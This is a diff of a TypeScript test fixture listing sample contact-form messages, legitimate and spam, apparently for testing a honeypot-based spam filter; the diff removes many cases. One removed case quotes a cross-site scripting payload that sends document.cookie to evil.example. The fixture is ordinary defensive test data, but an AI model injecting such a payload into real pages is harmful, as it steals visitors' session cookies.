@@ -14,13 +14,10 @@ const sender = { name: 'Zoë Müller', email: 'zoe@mueller.example' };
 export const legitimateMessages: Record<string, SentMessage> = {
   'a line': { ...sender, message: 'Please call me about an audit, +44 20 7946 0018.', token: 40_000 },
   'a name alone': { name: 'Zoë' },
-  'an address alone': { email: 'zoe@mueller.example', token: 9000 },
-  'a service alone': { service: 'audit', isForm: true },
   'no script': { ...sender, message: 'We were hacked last night.\r\nPlease help.', isForm: true },
   'no token': { ...sender, message: 'Our shop was defaced this morning, who can look at it today?' },
   'a token of yesterday': { ...sender, message: 'I left this page open overnight.', token: day + 60_000 },
   'a token that is not ours': { ...sender, message: 'My proxy changes headers.', token: 'forged' },
-  'a slow typist': { ...sender, message: 'It took me all morning to write this.', token: 5 * 60 * 60 * 1000 },
   'pasted at once': { ...sender, message: 'Do you test mobile apps? We have two of them.', token: 700 },
   'a screen reader that named the field': {
     ...sender,
@@ -28,18 +25,6 @@ export const legitimateMessages: Record<string, SentMessage> = {
     honeypot: 'empty',
   },
   'a name in the honeypot': { ...sender, message: 'I need a quote.', honeypot: 'Zoë Müller', token: 1200 },
-  'an address in the honeypot': {
-    ...sender,
-    message: 'I need a quote.',
-    honeypot: sender.email,
-    token: 1200,
-  },
-  'a number in the honeypot': {
-    ...sender,
-    message: 'I need a quote.',
-    honeypot: '+442079460018',
-    isForm: true,
-  },
   'a company in the honeypot': {
     ...sender,
     message: 'I need a quote.',
@@ -52,26 +37,11 @@ export const legitimateMessages: Record<string, SentMessage> = {
     honeypot: 'Flat 12, Wellington House, 123 Long Meadow Road, Newcastle upon Tyne, NE1 4ST',
     isForm: true,
   },
-  'a list of domains': {
-    ...sender,
-    message: 'Audit: mueller.example, shop.mueller.example, mail.mueller.example, vpn.mueller.example',
-    token: 60_000,
-  },
-  'a pasted list of addresses': {
-    ...sender,
-    message: 'https://mueller.example/login\nhttps://mueller.example/admin\nhttps://mueller.example/api/v1',
-    token: 900,
-  },
   'a list of domains, with a name in the honeypot': {
     ...sender,
     message: 'Audit: mueller.example, shop.mueller.example, mail.mueller.example, vpn.mueller.example',
     honeypot: 'Zoë Müller',
     token: 30_000,
-  },
-  'a sample of an attack': {
-    ...sender,
-    message: 'Found in our guest book: <script>fetch("https://evil.example/?c="+document.cookie)</script>',
-    token: 1500,
   },
   'a list of links with a sample of markup, pasted': {
     ...sender,
@@ -82,11 +52,6 @@ export const legitimateMessages: Record<string, SentMessage> = {
     ...sender,
     message: 'Our form gets these every hour, can you stop it? [url=https://pills.example]cheap[/url]',
     isForm: true,
-  },
-  'a signature with a link': {
-    ...sender,
-    message: 'When could you start?\n\n--\nZoë Müller\nMüller & Söhne\nhttps://www.mueller.example',
-    token: 50_000,
   },
   'a signature with many': {
     ...sender,
@@ -118,14 +83,6 @@ export const legitimateMessages: Record<string, SentMessage> = {
     message: 'مرحبا، نحتاج إلى اختبار اختراق لموقعنا في أقرب وقت ممكن، شكرا لكم.',
     isForm: true,
   },
-  Russian: {
-    ...sender,
-    message: 'Здравствуйте! Сколько стоит аудит сети на сорок рабочих мест?',
-    token: 15_000,
-  },
-  Hindi: { ...sender, message: 'नमस्ते, क्या आप हमारी वेबसाइट की सुरक्षा जाँच कर सकते हैं?' },
-  'signs alone': { ...sender, message: '👍👍👍 ???', token: 5000 },
-  capitals: { ...sender, message: 'PLEASE CALL ME BACK TODAY, IT IS URGENT!!!', token: 5000 },
   'words that others use for spam': {
     ...sender,
     message:
@@ -143,13 +100,6 @@ export const spamMessages: Record<string, SentMessage> = {
     message: 'https://pills.example',
     honeypot: 'https://pills.example',
   },
-  'a form filled in by a parser': {
-    name: 'CharlesTrord',
-    email: 'charles@mail.example',
-    message: `Best slots [url=https://slots.example/1]here[/url] ${links}`,
-    honeypot: 'google',
-    isForm: true,
-  },
   'anchors for a guest book': {
     name: 'Eugenia',
     message: `<a href="https://slots.example">slots</a> ${links}`,
@@ -165,24 +115,11 @@ export const spamMessages: Record<string, SentMessage> = {
     message: 'Hello',
     honeypot: 'Dear owner of this site, I have an offer. '.repeat(4),
   },
-  'a bare link in the honeypot': { message: 'Great post, thanks for sharing', honeypot: 'www.pills.example' },
   'markup in the honeypot': { message: 'Nice', honeypot: '[url=//pills.example]x[/url]', isForm: true },
   'a browser by remote control, with links': { message: links, honeypot: links, token: 350 },
-  'a browser by remote control, with markup': {
-    message: 'Cheap followers <a href="https://follow.example">now</a>',
-    honeypot: 'WqXvTnBz',
-    token: 20,
-  },
-  'links in the name': { name: links, message: '[link=https://slots.example]go[/link]', honeypot: 'John' },
   'a link in the honeypot, sent with patience': {
     message: 'I love it',
     honeypot: 'http://pills.example/?id=7',
     token: 60_000,
   },
-  'a foreign shop': {
-    message: `Лучшие казино <a href='https://slots.example'>тут</a> ${links}`,
-    honeypot: 'Иван',
-    isForm: true,
-  },
-  'anchors without words': { message: `<A HREF="https://slots.example/x">${links}</A>`, honeypot: 'x' },
 };
